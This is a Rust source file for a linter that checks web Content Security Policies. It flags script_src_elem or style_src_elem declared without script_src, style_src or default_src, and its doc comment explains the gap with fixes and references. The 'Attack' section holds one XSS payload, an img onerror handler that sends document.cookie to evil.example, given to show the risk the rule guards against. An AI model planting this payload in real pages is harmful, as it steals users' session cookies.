use crate::csp::{Directive, Disposition};
use crate::diagnostic::Diagnostic;
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for `script_src_elem` in a policy with neither `script_src` nor `default_src`, and for `style_src_elem`
    /// and `style_src_attr` without `style_src` or `default_src`.
    ///
    /// # Why it matters
    ///
    /// `script_src_elem` restricts script elements and nothing else. `eval`, WebAssembly, workers and event handlers
    /// fall back to `script_src` and `default_src`; with neither of them, they are not restricted. Browsers that do not
    /// support the specific directives ignore them and restrict nothing at all: for `script_src_elem`, these are Chrome
    /// before 75, Firefox before 108 and Safari before 15.4; for `style_src_elem`, also Safari before 26.2.
    ///
    /// # Attack
    ///
    /// An event handler is no script element, so it runs:
    ///
    /// ```html
    /// <img src="x" onerror="fetch('https://evil.example/?' + document.cookie)">
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { script_src_elem: self, object_src: none },
    /// ```
    ///
    /// # Fix
    ///
    /// Write the general directive, and the specific ones only where they differ from it.
    ///
    /// ```text
    /// content_security_policy: { script_src: self, script_src_attr: none, object_src: none },
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_elem_without_script_src, reason = "the proxy adds a policy with script-src")]
    /// script_src_elem: self,
    /// ```
    ///
    /// Reasonable where another policy, which this crate does not see, restricts the rest.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.1.11, script-src-elem](https://w3c.github.io/webappsec-csp/#directive-script-src-elem)
    /// - [CSP3, section 6.8.3, which directive falls back to which](https://w3c.github.io/webappsec-csp/#directive-fallback-list)
    Warn "a directive for elements or attributes without the general one",
    cwe [693], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let enforced = policy.csps_of(Disposition::Enforce);
    for csp in policy.csps() {
        for (elem, attr, base, rest) in [
            (Directive::ScriptSrcElem, None, Directive::ScriptSrc, "`eval`, WebAssembly, workers and event handlers"),
            (Directive::StyleSrcElem, Some(Directive::StyleSrcAttr), Directive::StyleSrc, "styles of any other kind"),
        ] {
            // A policy with only `script_src_attr` does not restrict scripts, which `csp_missing_script_src` reports.
            let clause = csp.get(elem).or_else(|| attr.and_then(|attr| csp.get(attr)));
            let (Some(clause), None) = (clause, csp.effective_clause(base)) else { continue };
            // Another enforced policy may restrict the rest.
            if enforced.iter().any(|other| other.effective_clause(base).is_some()) {
                continue;
            }
            let (key, base) = (clause.directive.node.key(), base.key());
            report.push(
                Diagnostic::finding(
                    clause.directive.span,
                    format!("`{key}` is declared without `{base}` or `default_src`"),
                )
                .help(format!("add `{base}: …` with the same sources, or `default_src: self`"))
                .note(format!("{rest} are not restricted, and older browsers ignore `{key}`")),
            );
        }
    }
}
